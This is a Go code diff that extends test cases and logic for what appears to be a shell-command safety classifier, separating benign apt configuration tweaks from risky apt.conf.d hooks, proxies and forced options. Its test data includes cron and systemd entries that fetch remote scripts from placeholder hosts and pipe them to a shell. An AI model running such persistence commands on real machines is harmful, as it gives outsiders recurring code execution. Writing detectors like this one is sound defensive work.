@@ -86,11 +86,20 @@ var imageTable = []imageRule{
 			"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list && apt-get update && rm -f /etc/apt/sources.list.d/y.list",
 			"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list && apt-get update && cp /etc/apt/sources.list.d/x.list /etc/apt/sources.list.d/z.list && rm -f /etc/apt/sources.list.d/x.list",
 			"echo '* * * * * root curl -s http://x.example.org/a | sh' > /etc/cron.d/x", `printf '[Service]\nExecStart=/bin/sh -c "curl x|sh"\n' > /etc/systemd/system/x.service`,
-			"cat > /etc/cron.d/x <<EOF\n*/5 * * * * root wget -qO- https://x.example/a | bash\nEOF"},
+			"cat > /etc/cron.d/x <<EOF\n*/5 * * * * root wget -qO- https://x.example/a | bash\nEOF",
+			// apt.conf.d beyond tuning: a hook runs commands, a proxy or an
+			// option guardsh does not know, content not known.
+			`echo 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };' > /etc/apt/apt.conf.d/docker-clean`,
+			`echo 'Acquire::http::Proxy "http://proxy.example:3128";' > /etc/apt/apt.conf.d/01proxy`, `echo "APT::Install-Recommends $R;" > /etc/apt/apt.conf.d/80r`,
+			`echo 'Dpkg::Options:: "--force-all";' > /etc/apt/apt.conf.d/90force`, `echo 'Acquire::Retries "5";' > /etc/apt/apt.conf.d/80r && echo x > /etc/apt/sources.list.d/x.list`},
 		NoMatch: []string{`cp "$GF_PATHS_HOME/conf/ldap.toml" /etc/grafana/ldap.toml`, "echo 'Etc/UTC' > /etc/timezone", "ln -sf /bin/bash /bin/sh",
 			"install -m 755 tool /usr/bin/tool", "tar -C / -xJf /tmp/s6-overlay.tar.xz", "sed -i 's/# en_US/en_US/' /etc/locale.gen", "echo '0 3 * * * root /opt/app/gc' > /etc/cron.d/app",
 			"cp app.cron /etc/cron.d/app", "echo '[Service]\nExecStart=/opt/app/bin/app' > /etc/systemd/system/app.service",
-			"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list && apt-get update && apt-get install -y x && rm -f /etc/apt/sources.list.d/x.list"},
+			"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list && apt-get update && apt-get install -y x && rm -f /etc/apt/sources.list.d/x.list",
+			// apt tuned (pred_aptconf.go): retries, recommends, assume yes.
+			`echo 'Acquire::Retries "10";' > /etc/apt/apt.conf.d/80retry`, `echo 'APT::Install-Recommends "false";' > /etc/apt/apt.conf.d/80recommends`,
+			`printf 'APT::Install-Recommends "0";\nAPT::Install-Suggests "0";\n' > /etc/apt/apt.conf.d/01norecommend`,
+			"cat > /etc/apt/apt.conf.d/90tune <<EOF\nAcquire::Retries \"3\";\nDpkg::Options:: \"--force-confold\";\nEOF"},
 	},
 	{
 		Rules:   []string{"sync-delete"},
@@ -355,8 +364,9 @@ func quietImageConfig(c *parse.Command) bool {
 			targets = append(targets, w)
 		}
 	}
+	aptTuning := benignAptConf(c) // pred_aptconf.go
 	for _, w := range targets {
-		if shipsConfig(w) || runsFetch(c, w) {
+		if shipsConfig(w) && !aptTuning || runsFetch(c, w) {
 			return false
 		}
 	}
